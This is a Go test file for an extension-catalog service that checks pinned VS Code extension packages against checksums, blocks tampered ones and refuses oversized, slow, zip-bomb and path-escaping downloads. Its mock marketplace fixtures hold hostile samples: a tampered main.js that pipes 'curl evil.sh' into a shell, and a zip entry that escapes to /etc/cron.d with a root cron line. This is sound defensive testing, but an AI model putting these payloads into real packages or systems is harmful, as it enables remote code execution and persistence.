package workers

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"github.com/extguard/extguard/adapters/marketplace/vsixtest"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"github.com/hibiken/asynq"

	"github.com/extguard/extguard/adapters/contentdigest"
	"github.com/extguard/extguard/adapters/marketplace"
	"github.com/extguard/extguard/adapters/outbound"
	"github.com/extguard/extguard/adapters/postgres"
	"github.com/extguard/extguard/application"
	"github.com/extguard/extguard/domain"
	"github.com/extguard/extguard/domain/audit"
)

type zipEntry = vsixtest.File

func hexSHA(b []byte) string {
	s := sha256.Sum256(b)
	return hex.EncodeToString(s[:])
}

var (
	manifest = vsixtest.Manifest
	types    = vsixtest.ContentTypes
)

// marketplaceFixture serves packages the way the marketplace does, plus the
// misbehaviours the fetcher must survive.
type marketplaceFixture struct {
	*httptest.Server
	good, tampered, big, bomb, escape []byte
}

func newMarketplace(t *testing.T) *marketplaceFixture {
	m := &marketplaceFixture{
		good: vsixtest.Build(t, manifest, types,
			zipEntry{Name: "extension/package.json", Data: []byte(`{"name":"pack","publisher":"good","version":"1.2.3"}`)},
			zipEntry{Name: "extension/out/main.js", Data: []byte("exports.activate = () => {};\n")}),
		tampered: vsixtest.Build(t, manifest, types,
			zipEntry{Name: "extension/package.json", Data: []byte(`{"name":"pack","publisher":"good","version":"1.2.3"}`)},
			zipEntry{Name: "extension/out/main.js", Data: []byte("require('child_process').exec('curl evil.sh | sh');\n")}),
		big:    bytes.Repeat([]byte("x"), 2<<20),
		bomb:   vsixtest.Build(t, manifest, types, zipEntry{Name: "extension/zeros.bin", Data: make([]byte, 32<<20)}),
		escape: vsixtest.Build(t, manifest, types, zipEntry{Name: "extension/../../../etc/cron.d/evil", Data: []byte("* * * * * root sh")}),
	}
	mux := http.NewServeMux()
	serve := func(b []byte) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) { _, _ = w.Write(b) }
	}
	mux.HandleFunc("/good.vsix", serve(m.good))
	mux.HandleFunc("/tampered.vsix", serve(m.tampered))
	mux.HandleFunc("/big.vsix", serve(m.big))
	mux.HandleFunc("/bomb.vsix", serve(m.bomb))
	mux.HandleFunc("/escape.vsix", serve(m.escape))
	mux.HandleFunc("/loop", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/loop", http.StatusFound) })
	mux.HandleFunc("/slow.vsix", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Length", "1000000")
		for range 100 {
			if _, err := w.Write(make([]byte, 100)); err != nil {
				return
			}
			w.(http.Flusher).Flush()
			select {
			case <-r.Context().Done():
				return
			case <-time.After(100 * time.Millisecond):
			}
		}
	})
	m.Server = httptest.NewServer(mux)
	t.Cleanup(m.Close)
	return m
}

// catalogEntry adds a pinned entry; the catalog's own use cases are the admin API's.
func (h *harness) catalogEntry(extID, url, pinnedSHA string) domain.ID {
	h.t.Helper()
	id := domain.NewID()
	_, err := h.db.NewRaw(`INSERT INTO extensions (id, extension_id, name, publisher, pinned_version, sha256_checksum, marketplace_url)
		VALUES (?, ?, ?, split_part(?, '.', 1), '1.2.3', ?, ?)`, id.String(), extID, extID, extID, pinnedSHA, url).Exec(context.Background())
	if err != nil {
		h.t.Fatal(err)
	}
	h.t.Cleanup(func() {
		_, _ = h.db.NewRaw(`UPDATE extensions SET deleted_at = now() WHERE id = ?`, id.String()).Exec(context.Background())
	})
	return id
}

type catalogState struct {
	SHA256        string    `bun:"sha256_checksum"`
	ContentSHA256 string    `bun:"content_sha256"`
	RevalidatedAt time.Time `bun:"revalidated_at"`
	IsBlocked     bool      `bun:"is_blocked"`
	BlockReason   string    `bun:"block_reason"`
}

func (h *harness) catalogState(id domain.ID) catalogState {
	h.t.Helper()
	var s catalogState
	if err := h.db.NewRaw(`SELECT sha256_checksum, COALESCE(content_sha256, '') AS content_sha256,
		COALESCE(revalidated_at, 'epoch') AS revalidated_at, is_blocked, block_reason FROM extensions WHERE id = ?`,
		id.String()).Scan(context.Background(), &s); err != nil {
		h.t.Fatal(err)
	}
	return s
}

func uniqueExt(prefix string) string { return prefix + ".x" + domain.NewID().String()[24:] }

func TestRevalidationOnDemandThroughTheWorker(t *testing.T) {
	m := newMarketplace(t)
	h := newHarness(t, harnessConfig{allowPrivate: true})
	secret := newSecret(t)
	rcv := newReceiver(t, []string{secret}, http.StatusOK)
	h.webhookFor(rcv.URL, secret, string(audit.ExtensionChecksumMismatch), string(audit.ExtensionRevalidated))
	h.start(h.server(), h.relayRunner())
	request := application.RequestRevalidation{Catalog: postgres.NewRevalidationCatalog(h.db), Queue: h.queue}
	admin := audit.Actor{Type: audit.ActorUser, ID: domain.NewID()}
	ctx := context.Background()

	// A good package: its content digest is stored, as agents compute it.
	good := h.catalogEntry(uniqueExt("good"), m.URL+"/good.vsix", hexSHA(m.good))
	if err := request.Execute(ctx, admin, good); err != nil {
		t.Fatal(err)
	}
	zr, _ := zip.NewReader(bytes.NewReader(m.good), int64(len(m.good)))
	want, err := contentdigest.ComputeVSIX(zr, contentdigest.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	eventually(t, 10*time.Second, "good package revalidated", func() bool { return h.catalogState(good).ContentSHA256 == want })
	if s := h.catalogState(good); s.IsBlocked || s.RevalidatedAt.Before(time.Now().Add(-time.Minute)) || s.SHA256 != hexSHA(m.good) {
		t.Errorf("after a good revalidation: %+v", s)
	}
	if n := h.count(`SELECT count(*) FROM audit_log WHERE event_type = 'extension.revalidated' AND target_id = ? AND actor_id = ?`,
		good.String(), admin.ID.String()); n != 1 {
		t.Errorf("%d extension.revalidated events by the requesting admin, want 1", n)
	}

	// A package that no longer matches the pinned checksum: blocked, audited,
	// and the webhook hears of it; the pinned checksum stays.
	tampered := h.catalogEntry(uniqueExt("tampered"), m.URL+"/tampered.vsix", hexSHA(m.good))
	before := h.policies.count()
	if err := request.Execute(ctx, admin, tampered); err != nil {
		t.Fatal(err)
	}
	eventually(t, 10*time.Second, "tampered package blocks the entry", func() bool { return h.catalogState(tampered).IsBlocked })
	s := h.catalogState(tampered)
	if s.SHA256 != hexSHA(m.good) || s.ContentSHA256 != "" || s.BlockReason == "" {
		t.Errorf("after a mismatch: %+v", s)
	}
	eventually(t, 10*time.Second, "checksum mismatch reaches the webhook", func() bool {
		for _, g := range rcv.requests() {
			b := decodeBody(t, g.body)
			target, _ := b["target"].(map[string]any)
			details, _ := b["details"].(map[string]any)
			if g.verified && b["type"] == "extension.checksum_mismatch" && target["id"] == tampered.String() &&
				details["actual_sha256"] == hexSHA(m.tampered) {
				return true
			}
		}
		return false
	})
	if h.policies.count() <= before {
		t.Error("policies were not invalidated after the block")
	}

	// Running it again says nothing new.
	if _, err := h.uc.Revalidate.Execute(ctx, application.RevalidationRequest{EntryID: tampered, RequestedBy: audit.SystemActor()}); err != nil {
		t.Fatal(err)
	}
	if n := h.count(`SELECT count(*) FROM audit_log WHERE event_type = 'extension.checksum_mismatch' AND target_id = ?`, tampered.String()); n != 1 {
		t.Errorf("%d mismatch events after a second run, want 1", n)
	}

	if err := request.Execute(ctx, admin, domain.NewID()); domain.CodeOf(err) != domain.CodeNotFound {
		t.Errorf("unknown entry: %v, want not_found", err)
	}
}

func TestPeriodicRevalidationSweepsEveryPinnedEntry(t *testing.T) {
	m := newMarketplace(t)
	h := newHarness(t, harnessConfig{allowPrivate: true})
	a := h.catalogEntry(uniqueExt("a"), m.URL+"/good.vsix", hexSHA(m.good))
	b := h.catalogEntry(uniqueExt("b"), m.URL+"/good.vsix", hexSHA(m.good))
	h.start(h.server(), NewScheduler(h.queue, []Periodic{{Type: TypeRevalidationScan, Period: time.Second}}, h.log))
	eventually(t, 10*time.Second, "both entries revalidated by the periodic sweep", func() bool {
		return h.catalogState(a).ContentSHA256 != "" && h.catalogState(b).ContentSHA256 != ""
	})
}

func TestRevalidationRefusesBadPackagesWithoutBlocking(t *testing.T) {
	m := newMarketplace(t)
	h := newHarness(t, harnessConfig{
		fetcher: marketplace.FetcherConfig{AllowedHosts: []string{"127.0.0.1"}, AllowPrivate: true, MaxBytes: 1 << 20,
			Timeouts: outbound.Timeouts{Total: 500 * time.Millisecond}},
		limits: contentdigest.Limits{MaxTotalBytes: 1 << 20, MaxFileBytes: 1 << 20},
	})
	cases := []struct {
		name, path, pinned string
		code               domain.Code
	}{
		{"oversized body", "/big.vsix", hexSHA(m.big), domain.CodeInvalid},
		{"slow body", "/slow.vsix", hexSHA(m.good), domain.CodeUnavailable},
		{"redirect loop", "/loop", hexSHA(m.good), domain.CodeInvalid},
		{"zip bomb", "/bomb.vsix", hexSHA(m.bomb), domain.CodeInvalid},
		{"path escaping entry", "/escape.vsix", hexSHA(m.escape), domain.CodeInvalid},
		{"not found", "/missing.vsix", hexSHA(m.good), domain.CodeInvalid},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			id := h.catalogEntry(uniqueExt("bad"), m.URL+c.path, c.pinned)
			_, err := h.uc.Revalidate.Execute(context.Background(), application.RevalidationRequest{EntryID: id, RequestedBy: audit.SystemActor()})
			if domain.CodeOf(err) != c.code {
				t.Errorf("error %v (%s), want %s", err, domain.CodeOf(err), c.code)
			}
			if s := h.catalogState(id); s.IsBlocked || s.ContentSHA256 != "" || s.RevalidatedAt.After(time.Unix(0, 0)) {
				t.Errorf("entry changed: %+v", s)
			}
			if n := h.count(`SELECT count(*) FROM audit_log WHERE target_id = ?`, id.String()); n != 0 {
				t.Errorf("%d audit rows for a failed download", n)
			}
		})
	}
	// The handler does not retry what cannot get better, and retries the rest.
	if err := retryUnlessPermanent(domain.Invalid("zip bomb")); !errors.Is(err, asynq.SkipRetry) {
		t.Errorf("invalid: %v, want SkipRetry", err)
	}
	if err := retryUnlessPermanent(domain.Unavailable("timeout")); errors.Is(err, asynq.SkipRetry) {
		t.Errorf("unavailable: %v, want a retry", err)
	}
}
